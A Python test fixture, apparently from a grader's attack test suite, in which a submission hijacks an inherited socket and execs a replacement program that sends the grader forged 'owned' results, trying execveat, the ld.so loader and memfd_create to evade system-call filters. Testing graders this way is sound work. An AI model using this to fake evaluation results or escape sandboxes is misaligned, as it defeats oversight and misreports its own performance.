"""Has another program take its place, which then answers whatever the grader asks."""

from tests.attacks.attack import Attack
from tests.attacks.sources import HONEST, SYSTEM_CALLS

ATTACK = Attack(
    wants="a program that no filter was set up for, and that answers for the submission",
    top=SYSTEM_CALLS
    + """
import stat, sys

ANSWER = '''
import socket, struct
connection = socket.socket(fileno=%d)
VALUES = (b'["dict",[["raised",null],["output","owned"],["notes",["list",[]]]]]',
          b'["dict",[["returned","C"],["arguments",["tuple",[]]]]]')
asked = 1
while True:
    text = VALUES[asked == 0]
    connection.sendall(struct.pack("<4sIQ", b"CNN1", len(text), 0) + text)
    magic, size, data = struct.unpack("<4sIQ", connection.recv(16, socket.MSG_WAITALL))
    body = connection.recv(size, socket.MSG_WAITALL)
    connection.recv(data, socket.MSG_WAITALL)
    asked = b"cell" in body
'''

def connection():
    for number in range(64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.set_inheritable(number, True)
                return number
        except OSError:
            pass

program = [sys.executable, "-I", "-S", "-c", ANSWER % connection()]

def by_exec():
    os.execv(program[0], program)

def by_descriptor():
    with open(program[0], "rb") as file:
        os.execve(file.fileno(), program, {})

def by_execveat():
    arguments = (ctypes.c_char_p * (len(program) + 1))(*[word.encode() for word in program], None)
    call("execveat", -100, ctypes.c_char_p(program[0].encode()), arguments, None, 0)

def by_loader():
    os.execv("/lib64/ld-linux-x86-64.so.2", ["ld.so", *program])

def by_memory():
    memory = os.memfd_create("program")
    with open(program[0], "rb") as file:
        os.write(memory, file.read())
    os.execve(memory, program, {})

for way in (by_exec, by_descriptor, by_execveat, by_loader, by_memory):
    try:
        way()
    except Exception as error:
        print(way.__name__, error)
""",
    solutions=HONEST,
    deserves=3.0,
)
